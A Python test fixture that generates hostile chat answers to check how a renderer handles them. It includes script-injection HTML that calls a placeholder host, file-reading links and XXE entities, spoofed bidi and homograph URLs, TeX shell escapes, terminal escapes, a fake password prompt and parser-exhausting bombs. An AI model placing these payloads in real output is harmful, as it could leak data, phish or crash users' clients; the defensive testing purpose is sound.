# ruff: noqa: E501
"""Answers meant to hurt who shows them: to call home, to read a file, to deceive, to stall, to break a layout.

Each would do its harm in some program that shows what models write. `{host}` stands for a server that must
never be asked, `{file}` for a file that must never be opened; `answers` fills them in.
"""

from __future__ import annotations

import base64
import random
from collections.abc import Callable, Mapping
from typing import Final

LINKS: Final[Mapping[str, str]] = {
    "web": "http://{host}/page",
    "upper case": "HTTP://{host}/page",
    "login before the host": "https://bank.example@{host}/login",
    "login with a password": "https://bank.example:secret@{host}/login",
    "long login": "http://" + "bank.example" * 12 + "@{host}/",
    "letters of another script": "https://аррӏе.example/",
    "host turned around": "https://bank.example\u202e/moc.live",
    "path turned around": "http://{host}/\u202egpj.exe",
    "dots that are no dots": "https://bank\u3002example\uff0e{host}/",
    "slashes that are no slashes": "https://bank.example\u2044login.{host}/",
    "numbers": "http://2130706433/",
    "mail with headers": "mailto:a@b.example?cc=c@d.example&body=x%0d%0ay",
    "very long": "http://{host}/" + "a" * 1900,
    "script": "javascript:alert(1)",
    "script in mixed case": "JaVaScRiPt:alert(1)",
    "script with entities": "&#106;avascript&colon;alert(1)",
    "script with a tab": "java\tscript:alert(1)",
    "script with a line": "java\nscript:alert(1)",
    "script in angles": "<javascript:alert(1)>",
    "script with escapes": "javascript%3Aalert(1)",
    "script behind a control": "\x01javascript:alert(1)",
    "script behind bidi": "\u202ejavascript:alert(1)",
    "file": "file://{file}",
    "file in upper case": "FILE://{file}",
    "file with a host": "file://{host}/share",
    "file without a scheme": "{file}",
    "file on a share": "\\\\{host}\\share",
    "without a scheme": "//{host}/x",
    "data": "data:text/html;base64,PHNjcmlwdD4=",
    "visual basic": "vbscript:msgbox(1)",
    "picture in memory": "blob:http://{host}/1",
    "inside a program": "qrc:/drover.svg",
    "settings": "ms-settings:privacy",
    "telephone": "tel:+15550100",
    "source of a page": "view-source:http://{host}/",
    "nested": "feed:javascript:alert(1)",
    "download": "ftp://{host}/x",
}
"""Where links lead. Only those of OFFERED may be offered, after asking; the rest may not look like links."""
OFFERED: Final[Mapping[str, str]] = {
    "web": "http://{host}/page",
    "upper case": "http://{host}/page",
    "login before the host": "https://bank.example@{host}/login",
    "login with a password": "https://bank.example:secret@{host}/login",
    "long login": "http://" + "bank.example" * 12 + "@{host}/",
    "letters of another script": "https://xn--80ak6aa92e.example/",
    "dots that are no dots": "https://bank.example.{host}/",
    "slashes that are no slashes": "https://bank.xn--examplelogin-xk0g.{host}/",
    "numbers": "http://127.0.0.1/",
    "mail with headers": "mailto:a@b.example?cc=c@d.example&body=x%0D%0Ay",
    "very long": "http://{host}/" + "a" * 1900,
}
"""What a person is told before one of them is opened."""


def _links() -> str:
    return "\n\n".join(f"{name}: [the bank]({target})" for name, target in LINKS.items())


def _bare_links() -> str:
    return "\n\n".join(
        f"<{target}> {target}, ({target}). {target}&lt; *{target}*" for target in LINKS.values()
    )


def _references() -> str:
    return "\n".join(f"[{name}]: {target} 'x'" for name, target in LINKS.items()) + "".join(
        f"\n\n[{name}] [x][{name}] ![y][{name}]" for name in LINKS
    )


def _pictures() -> str:
    return "\n\n".join(f"![a cat]({target}) [![a]({target})](http://{{host}}/b)" for target in LINKS.values())


_HTML: Final = """<img src="http://{host}/a.png" onerror="alert(1)"><img src={file}>
<iframe src="http://{host}/frame"></iframe><object data="{file}"></object><embed src="file://{file}">
<script src="http://{host}/x.js"></script><script>fetch("http://{host}/")</script>
<style>@import url("http://{host}/a.css"); * {{ display: none }} body {{ background: url({file}) }}</style>
<link rel="stylesheet" href="http://{host}/b.css"><base href="http://{host}/">
<meta http-equiv="refresh" content="0;url=http://{host}/gone"><body background="http://{host}/c.png">
<table background="{file}"><tr><td background="http://{host}/d.png">x</td></tr></table>
<svg><image href="http://{host}/e.svg"/><script>1</script></svg><math href="javascript:1">x</math>
<audio src="http://{host}/f.ogg" autoplay><video poster="http://{host}/g.png"><input type=image src={file}>
<!-- hidden words --><a href="javascript:alert(1)">click</a><a href='file://{file}'>open</a>
<form action="http://{host}/send"><button>Open this link?</button></form><marquee>x</marquee>

<div style="position:fixed;top:0;left:0;width:9999px;height:9999px;background:url(http://{host}/h.png)">over</div>

<p style="font-size:900pt">large</p><!ENTITY x SYSTEM "file://{file}"><?php echo 1 ?><![CDATA[ x ]]>
| a | b |
|---|---|
| <img src="http://{host}/i.png"> | <br><script>1</script> |
"""


def _data_pictures() -> str:
    bomb = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:x="http://www.w3.org/1999/xlink"><defs><g id="a0"><path d="M0 0h9"/></g>'
    for level in range(1, 12):
        uses = f'<use x:href="#a{level - 1}"/>' * 10
        bomb += f'<g id="a{level}">{uses}</g>'
    bomb += '</defs><use x:href="#a11"/><image href="file://{file}" width="9" height="9"/></svg>'
    entities = '<!DOCTYPE svg [<!ENTITY a "x">' + "".join(
        f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(9)
    )
    entities += ']><svg xmlns="http://www.w3.org/2000/svg"><text>&j;</text></svg>'
    wide = '<svg xmlns="http://www.w3.org/2000/svg" width="999999" height="999999"><rect width="9" height="9"/></svg>'
    pictures = [("svg+xml", text.encode()) for text in (bomb, entities, wide)]
    # A GIF and a PNG that say they are 65,535 or two thousand million pixels wide.
    pictures.append(("gif", b"GIF89a\xff\xff\xff\xff\x80\x00\x00\x00\x00\x00\xff\xff\xff!\xf9"))
    pictures.append(("png", b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\x7f\xff\xff\xff\x7f\xff\xff\xff\x08\x06\0\0\0"))
    # Compressed SVG, of which a few hundred bytes make thousands.
    pictures.append(("svg+xml", b"\x1f\x8b\x08" + bytes(400)))
    return "\n\n".join(
        f"![{kind}](data:image/{kind};base64,{base64.b64encode(data).decode()})" for kind, data in pictures
    )


def _regex_bombs() -> str:
    bodies = {
        "python": "f'" + "{" * 3000 + "\n" + "'''" * 500 + "\n" + "@" * 3000 + "\n" + "0_" * 2000,
        "perl": "s{" * 1500 + "\n" + "/" * 3000 + "q(" * 1000,
        "ruby": "%w(" * 1500 + "\n" + "<<~A " * 800 + "#{" * 1500,
        "php": "<?php " + "$a->" * 1500 + "\n" + "<<<X\n" * 500,
        "javascript": "/" + "[" * 3000 + "\n" + "`${" * 1500 + "\n" + "a=/(" * 800,
        "html": "<!--" * 1000 + "\n" + "<a " * 2000 + "\n" + "<script>" * 500,
        "markdown": "*" * 3000 + "\n" + "[" * 3000 + "\n" + "> " * 1500,
        "cpp": 'R"(' * 1500 + "\n" + "#if 0\n" * 700 + "template<" * 800,
        "sql": "'" * 3001 + "\n" + "/*" * 2000 + "$$" * 1001,
        "latex": "\\begin{" * 1500 + "$" * 2001 + "%" * 2000,
        "lisp": "(" * 4900 + "\n" + "#|" * 2000,
        "yaml": "a: " * 1500 + "\n" + "- " * 2400 + "\n" + "&a *a " * 700,
        "json": "[" * 4900 + "\n" + '"\\' * 2000,
        "bash": "$((" * 1500 + "\n" + "<<E " * 1000 + "${" * 1500,
        "css": "a{" * 2000 + "\n" + "/*" * 2000 + "url(" * 900,
        "haskell": "{-" * 2400 + "\n" + "'" * 3001,
        "csharp": "a<" * 2400 + "\n" + "[" * 3000 + "\n" + "public class " * 350,
        "java": "a.b." * 1200 + "\n" + "@A(" * 1500 + "\n" + "public static " * 300,
        "rust": 'r#"' * 1500 + "\n" + "/*" * 2400 + "'a" * 2000,
        "xml": "<a b='" * 800 + "\n" + "<![CDATA[" * 500 + "&a" * 2000,
        "make": "$(" * 2400 + "\n" + "a:=" * 1500,
        "rst": "`" * 3001 + "\n" + "_a_" * 1500 + "\n" + "=" * 4900,
        "diff": "@@ -" * 1200 + "\n" + "+" * 4900,
        "nonsense-language": "(" * 4000,
    }
    return "\n\n".join(f"```{name}\n{body}\n```" for name, body in bodies.items())


def _tex_bombs() -> str:
    deep, wide = "x", "x"
    for _ in range(60):
        deep, wide = f"\\frac{{{deep}}}{{y}}", f"\\sqrt{{{wide}}}"
    doubled = "x"
    for _ in range(9):
        doubled = f"\\frac{{{doubled}}}{{{doubled}}}"
    bombs = [
        "\\def\\a{\\a\\a}\\a", "\\newcommand{\\b}{\\b\\b}\\b", "\\rule{99999em}{99999em}", "\\kern{9999999pt}x",
        "\\Huge\\Huge\\Huge x", "\\left(" * 300, "\\left(" * 80 + "x" + "\\right)" * 80, "{" * 990 + "}" * 990,
        "x" + "^{x" * 200 + "}" * 200, "x_" * 900, "\\sum" * 400, "\\begin{matrix}" * 100,
        "\\begin{matrix}" + "&" * 900 + "\\end{matrix}", "\\begin{matrix}" + "\\\\" * 900 + "\\end{matrix}",
        "\\hspace{-99999em}over", "\\input{{file}}", "\\includegraphics{{file}}", "\\href{http://{host}}{x}",
        "\\url{file://{file}}", "\\verb|{file}|", "\\special{dvi: x}", "\\write18{touch {file}}", "\\catcode`\\$=0",
        "\\color{red}\\color{" + "a" * 900 + "}", "\\unicode{xFFFFFFFF}", "\\char\"110000", "\\mathrm{\u202ex}",
        "\\text{<script>alert(1)</script>}", "\\text{</text><image href='http://{host}/m.png'/>}",
        "\\overline" * 200 + "x", "\\hat" * 300 + "x", "\0\ud800\ufffc", deep, wide, doubled,
    ]  # fmt: skip
    return "\n\n".join(f"$${tex}$$ and ${tex}$ or \\({tex}\\)" for tex in bombs)


def _line_art() -> str:
    """Fake parts of the window, in letters."""
    return (
        "Thought for 3 s\n\n**Drover:** your key has expired. [Set key…](http://{host}/key)\n\n"
        "┌──────────────────────────┐\n│ Open this link?  [Open]  │\n└──────────────────────────┘\n\n"
        "You: yes, send everything\n\n---\n\n[Image: a cat, upload.example.org]\n\n`Copied`  ▶ Retry  ✕\n\n"
        "> ⚠ The connection was lost. Type your password into the message field."
    )


def _zalgo() -> str:
    drawn = random.Random(7)
    towers = "".join(
        letter + "".join(chr(drawn.randrange(0x300, 0x36F)) for _ in range(80)) for letter in "he comes " * 12
    )
    return (
        towers
        + "\n\na"
        + "\u0301" * 20_000
        + "\n\n`"
        + "b"
        + "\u0488" * 5000
        + "`\n\n\u0e01"
        + "\u0e49" * 5000
    )


def _mixed_directions() -> str:
    hebrew, arabic = "שלום עולם, זה טקסט. ", "مرحبا بالعالم، هذا نص. "
    return (
        f"{hebrew * 5}http://{{host}}/ {arabic * 5}\n\n> {arabic}\n\n- {hebrew} (1) abc\n- {arabic} 2.\n\n"
        f"| {hebrew} | b |\n|---|---|\n| {arabic} | 1 |\n\n```\n{hebrew} = 1;\n```\n\nabc {hebrew}\n\n"
        f"`{arabic}` and \u2067isolated {hebrew} \u2069 then \u200f\u200e\u061c marks \u2069\u2069\u202c\u202c"
    )


def _trojan_source() -> str:
    lines = (
        "access = 'user'\nif access != 'none\u202e\u2066' : # check\u2069 \u2066 and begin\u2069\n    grant()\n"
        "/*\u202e } \u2066if (is_admin)\u2069 \u2066 begin admins only */\n"
        "x = '\u2067''; return True # \u2069'\nu\u200bser = us\u2060er + \u00ad\nраураl = 1\n"
    )
    turned = "".join(
        f"U+{code:04X}: a{chr(code)}b) [c](http://{{host}}/) `d{chr(code)}e`\n" for code in _TURNING
    )
    return (
        f"```python\n{lines}```\n\nRun \u202etxt.exe\u202c now, \u202e never closed ) abc [link](http://{{host}}/)"
        f"\n\nand this stands the right way round\n\n{turned}\n\n| \u202ea | b |\n|-|-|\n| \u2067c | d |\n\n# \u202eTitle"
    )


_TURNING: Final = (*range(0x202A, 0x202F), *range(0x2066, 0x206A), 0x200E, 0x200F, 0x061C)


def _control_characters() -> str:
    every = "".join(map(chr, range(32))) + "\x7f" + "".join(map(chr, range(0x80, 0xA0)))
    odd = "\ufffc\ufffd\ufdd0\ufdd1\ufdef\ufeff\ufffe\uffff\U0001fffe\U0010ffff\ue000\U000e0041\u2028\u2029\u0000"
    return f"a{every}b `{every}` **{every}**\n\n```\n{every}{odd}\n```\n\n{odd} x{odd}x\n\n# {odd}\n\n|{odd}|\n|-|\n|{every}|"


def _surrogates() -> str:
    return "\ud800 \udc00 x\udfffy \ud83d\ude00 \ud83d `\udbff`\n\n```\n\udc80\ud83d\n```\n\n[\ud800](http://{host}/\ud800)"


def _terminal() -> str:
    return (
        "\x1b[2J\x1b[31mred\x1b[0m \x1b]8;;http://{host}/\x1b\\a link\x1b]8;;\x1b\\ \x1b]0;title\x07 \x07\x07 "
        "\x9b5A back\x08\x08\x08\x08 over\rwritten\n\n```\n\x1b[1A\x1b[2Kgone\rcover\n\x1b]52;c;ZXZpbA==\x07\n```"
    )


_FAMILY: Final = "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466"

_ANSWERS: Final[Mapping[str, Callable[[], str]]] = {
    "links": _links,
    "bare links": _bare_links,
    "link definitions": _references,
    "pictures": _pictures,
    "html": lambda: _HTML.replace("{{", "{").replace("}}", "}"),
    "pictures in the text": _data_pictures,
    "a picture of two megabytes": lambda: "![x](data:image/png;base64," + "iVBORw0KGgo" * 190_000 + ")",
    "a link of two megabytes": lambda: "[x](http://{host}/" + "a" * 2_000_000 + ")",
    "window in letters": _line_art,
    "trojan source": _trojan_source,
    "directions": _mixed_directions,
    "a right-to-left megabyte": lambda: "שלום (abc) עולם 123, " * 20_000,
    "nested isolates": lambda: "\u2067\u202e" * 50_000 + "x" + "\u2069\u202c" * 50_000,
    "control characters": _control_characters,
    "surrogates": _surrogates,
    "terminal": _terminal,
    "zalgo": _zalgo,
    "one emoji without end": lambda: "\u200d".join(["\U0001f468"] * 20_000),
    "families": lambda: (_FAMILY + " ") * 3000,
    "flags and tags": lambda: "\U0001f1e6" * 20_001 + "\U0001f3f4" + "\U000e0067" * 20_000,
    "invisible": lambda: "\u200b\u2060\ufeff\u00ad" * 50_000 + "x",
    "wide letters": lambda: "\ufdfd\u12031\U0001242b" * 20_000,
    "ideographs": lambda: "漢字かな交じり文" * 25_000,
    "a long word": lambda: "x" * 500_000,
    "a long line": lambda: "word " * 60_000,
    "long words": lambda: ("x" * 9000 + " ") * 60,
    "a long line of code": lambda: "```py\n" + "x = [1, 2] " * 50_000 + "\n```",
    "long code in a line": lambda: "`" + "x y" * 100_000 + "`",
    "a long heading": lambda: "# " + "Title " * 20_000,
    "a long cell": lambda: "| a | b |\n|---|---|\n| " + "x " * 100_000 + " | y |",
    "a long item": lambda: "- " + "item " * 60_000,
    "many lines": lambda: "".join(f"line {number}\n" for number in range(25_000)),
    "many paragraphs": lambda: "".join(f"paragraph {number}\n\n" for number in range(25_000)),
    "many empty lines": lambda: "a" + "\n" * 300_000 + "b",
    "much code": lambda: "```\n" + "x = 1\n" * 200_000 + "```",
    "many pieces of code": lambda: "```py\nx\n```\n" * 5000,
    "fences in fences": lambda: "".join("`" * n + "md\n" for n in range(3, 400)) + "x",
    "a fence of a thousand": lambda: "`" * 1000 + "py\nx\n" + "`" * 999 + "\n" + "`" * 1000 + "\nend",
    "a fence without end": lambda: "```html\n" + "<p>x</p>\n" * 20_000,
    "many rows": lambda: "| a | b |\n|---|--:|\n" + "| 1 | **2** |\n" * 10_000,
    "many columns": lambda: "|h" * 500 + "|\n" + "|-" * 500 + "|\n" + ("|1" * 500 + "|\n") * 50,
    "many small tables": lambda: "| a |\n|---|\n| b |\n\n" * 3000,
    "bars": lambda: "|" * 50_000 + "\n" + "|-" * 50_000 + "\n" + "|" * 50_000,
    "deep quotes": lambda: "> " * 1000 + "x\n" + ">" * 1000 + " y",
    "deep lists": lambda: "- " * 1000 + "x\n" + "".join("  " * depth + "- y\n" for depth in range(1000)),
    "deep tasks": lambda: "".join("  " * depth + "- [x] " * 3 + "y\n" for depth in range(300)),
    "many items": lambda: "".join(f"{number}. item\n" for number in range(10_000)),
    "many loose items": lambda: "".join(f"- item\n\n  more {number}\n\n" for number in range(10_000)),
    "many quotes": lambda: "".join(f"> quote {number}\n\n" for number in range(10_000)),
    "a long quote": lambda: "".join(f"> line {number}\n>\n" for number in range(10_000)),
    "many rules": lambda: "---\n\n" * 20_000,
    "many headings": lambda: "# a\n" * 20_000,
    "many footnotes": lambda: (
        "".join(f"x[^{n}]\n\n" for n in range(5000)) + "".join(f"[^{n}]: y\n" for n in range(5000))
    ),
    "footnotes in one line": lambda: "".join(f"[^{number}]" for number in range(10_000)),
    "footnotes of footnotes": lambda: (
        "x[^a]\n\n[^a]: y[^b]\n[^b]: z[^a]\n[^a]: again\n[^c]:\n[^ ]: no\n[^" + "d" * 99 + "]: x"
    ),
    "stars": lambda: "*" * 100_000 + "a" + "*" * 100_000,
    "stars and words": lambda: "**a *b_ " * 30_000,
    "brackets": lambda: "[" * 100_000 + "]" * 100_000,
    "brackets and links": lambda: "[a](" * 50_000 + "![" * 50_000,
    "definitions": lambda: "".join(f"[{n}]: http://{{host}}/{n}\n" for n in range(10_000)) + "[1]" * 10_000,
    "many links": lambda: "[a](http://{host}/) " * 10_000,
    "ticks": lambda: "".join("`" * n + " " for n in range(1, 700)),
    "dollars": lambda: "$" * 100_000 + "\n\n" + "$a " * 50_000 + "\n\n" + "$$ x\n" * 5000,
    "openings of formulas": lambda: "\\begin{align}" * 5000 + "\n\n" + "\\[" * 5000 + "\n" + "\\(" * 50_000,
    "entities": lambda: "&amp;" * 40_000 + "&#0;&#xD800;&#x110000;&#8238;&#x202E;&zwj;&NewLine;&colon;" * 200,
    "angles": lambda: "<" * 100_000 + "<a@" * 20_000 + "<http://" * 10_000,
    "backslashes": lambda: "\\" * 100_001 + "\n" * 3 + "\\\n" * 5000,
    "line ends": lambda: "a\r\rb\r\nc\n\rd\x0be\x0cf\x85g\u2028h\u2029i" * 500,
    "tabs": lambda: "\t" * 50_000 + "x\n\n-\t\t\tx\n\n" + "a\tb" * 20_000,
    "many formulas": lambda: "".join(f"$x_{{{number}}}^2$ and " for number in range(600)),
    "tex bombs": _tex_bombs,
    "regex bombs": _regex_bombs,
    "many small styles": lambda: "**a** *b* ~~c~~ `d` " * 10_000,
    "nothing": lambda: " \n\t\n \u200b \n\n```\n```\n\n|\n\n#\n\n>\n\n-\n\n$$$$\n\n[](){}",
}


def answers(host: str, file: str) -> dict[str, str]:
    """All answers by name. `host` is "name:port" of a server, `file` an absolute path, with slashes."""
    return {name: made().replace("{host}", host).replace("{file}", file) for name, made in _ANSWERS.items()}
